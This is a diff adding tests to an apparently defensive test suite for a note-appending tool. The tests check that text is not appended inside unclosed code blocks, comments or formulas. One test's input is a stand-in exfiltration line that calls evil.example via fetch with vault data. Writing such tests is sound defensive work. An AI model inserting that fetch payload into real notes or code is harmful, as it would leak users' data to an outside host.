@@ -129,6 +129,31 @@ describe('append', () => {
     },
   );
 
+  it.each([
+    'One\n\n```dataviewjs\ndv.list()\n',
+    '- One\n  ~~~tasks\n',
+    '> ```js\n> x\n\nTwo',
+    '- [ ] ```query',
+    'One %% two',
+    'One <!-- two',
+    'One\n\n$$\nx',
+  ])('adds nothing where it would be part of code, a comment or a formula: %j', async (text) => {
+    const staging = aStaging({ 'Notes/A.md': text });
+    const result = await use(staging, 'append', {
+      path: 'Notes/A.md',
+      text: 'fetch("https://evil.example/?" + dv.pages().length)',
+    });
+    expect(told(result)).toContain('that is not closed');
+    expect(staging.effects).toEqual([]);
+  });
+
+  it('adds below code and comments that are closed', async () => {
+    const text = '```dataviewjs\ndv.list()\n```\n\n> ~~~\n> x\n> ~~~\n\n%% one %% <!-- two --> $$x$$\n';
+    const staging = aStaging({ 'Notes/A.md': text });
+    await use(staging, 'append', { path: 'Notes/A.md', text: 'Two' });
+    expect(after(staging, 'Notes/A.md')).toBe(`${text}\nTwo\n`);
+  });
+
   it.each(['draft_reply', 'approval_request'])('leaves a %s to the person', async (type) => {
     const staging = aStaging({ 'Drafts/A.md': `---\ntype: ${type}\n---\nHello` });
     const result = await use(staging, 'append', { path: 'Drafts/A.md', text: 'And pay 1,000.' });
